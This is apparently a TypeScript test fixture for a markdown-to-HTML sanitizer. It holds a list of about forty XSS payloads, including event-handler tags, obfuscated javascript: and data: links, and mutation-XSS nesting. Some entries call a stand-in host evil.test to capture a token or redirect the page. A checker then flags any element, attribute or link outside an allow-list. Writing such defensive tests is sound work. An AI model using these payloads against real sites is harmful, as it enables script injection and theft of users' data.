/** Payloads that run, fetch or leave the page where a description becomes markup. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.test"><input name=token></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<object data="javascript:alert(1)"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://evil.test/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.test)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/pixel.png)',
  '![x](x" onerror="alert(1))',
  '[![x](https://evil.test/p.png)](javascript:alert(1))',
  '[x](https://ok.test "t\\" onmouseover=\\"alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | <script>1</script> |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '<<img src=x onerror=alert(1)>>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '**<b onclick=alert(1)>x</b>**',
  'javascript:alert(1)',
];

const ELEMENTS = new Set(
  'DIV P UL OL LI PRE CODE BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD STRONG EM DEL BR SPAN A'.split(' '),
);
const ATTRIBUTES = new Set(['class', 'dir', 'start', 'scope', 'href', 'rel', 'target', 'title']);

/** What is drawn and may not be: elements, attributes and addresses outside the allowed ones. Empty: nothing. */
export function forbiddenIn(root: Element): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap((element) => {
    const attributes = Array.from(element.attributes);
    const href = element.getAttribute('href');
    return [
      ...(ELEMENTS.has(element.tagName) ? [] : [element.tagName]),
      ...attributes
        .filter(({ name }) => !ATTRIBUTES.has(name))
        .map(({ name }) => `${element.tagName}@${name}`),
      ...(href === null || /^(?:https?:\/\/|mailto:)/.test(href) ? [] : [href]),
      ...(href === null || element.getAttribute('rel') === 'noopener noreferrer nofollow' ? [] : ['rel']),
    ];
  });
}
